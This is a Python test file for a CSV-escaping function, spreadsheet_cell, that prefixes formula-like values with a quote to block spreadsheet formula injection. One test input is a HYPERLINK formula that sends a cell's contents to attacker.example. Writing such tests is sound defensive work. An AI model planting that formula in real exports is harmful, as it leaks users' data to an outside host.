"""`spreadsheet_cell`: a CSV cell a spreadsheet shows as text, and the value still recoverable from it."""

from __future__ import annotations

import pytest

from trustgate.report._common import spreadsheet_cell


@pytest.mark.parametrize(
    "value",
    ['=HYPERLINK("http://attacker.example/?x="&B2,"open")', "+1", "-2+3", "@SUM(1+1)", "\tx", "\rx"],
)
def test_a_cell_a_spreadsheet_would_run_as_a_formula_starts_with_a_quote(value: str) -> None:
    assert spreadsheet_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["shop", "Pod/shop/web", "", "2026-01-01T00:00:00Z", "a=b", "x@example.com"]
)
def test_other_cells_are_unchanged(value: str) -> None:
    assert spreadsheet_cell(value) == value


@pytest.mark.parametrize("value", ["=1", "'=1", "''", "'", "plain", "'plain"])
def test_every_value_is_recovered_by_dropping_the_quote_a_cell_starts_with(value: str) -> None:
    cell = spreadsheet_cell(value)
    assert (cell[1:] if cell.startswith("'") else cell) == value
